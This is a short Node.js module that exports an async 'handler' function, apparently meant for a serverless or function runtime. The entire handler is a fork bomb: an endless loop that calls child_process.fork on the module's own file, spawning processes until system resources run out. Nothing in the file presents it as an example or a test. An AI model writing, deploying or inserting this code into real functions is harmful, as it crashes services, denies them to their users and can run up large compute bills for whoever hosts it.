const cp = require("child_process");

exports.handler = async () => {
  while (true) {
    cp.fork(__filename);
  }
};
